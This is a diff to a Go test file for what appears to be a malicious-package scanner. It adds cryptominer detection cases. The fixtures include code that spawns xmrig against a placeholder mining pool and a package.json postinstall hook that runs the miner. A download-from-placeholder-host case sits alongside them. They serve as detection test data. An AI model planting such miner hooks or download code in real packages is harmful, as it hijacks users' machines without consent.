@@ -22,3 +22,11 @@ func TestDownloadExecute(t *testing.T) {
 		{"download_only", map[string]string{"index.js": `require("https").get("https://x.invalid/f", r => r.pipe(require("fs").createWriteStream("f")))`}, finding.SeverityNone},
 	})
 }
+
+func TestCryptominer(t *testing.T) {
+	rt.Check(t, Cryptominer{}, []rt.Case{
+		{"spawned", map[string]string{"index.js": `require("child_process").spawn("./bin/xmrig", ["-o", "stratum+tcp://pool.example.invalid:3333", "--donate-level=1"])`}, finding.SeverityCritical},
+		{"install_script", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"./xmrig -o stratum+tcp://p.invalid:3333"}`)}, finding.SeverityCritical},
+		{"mining_docs_word", map[string]string{"index.js": `const topic = "data mining and text mining"`}, finding.SeverityNone},
+	})
+}
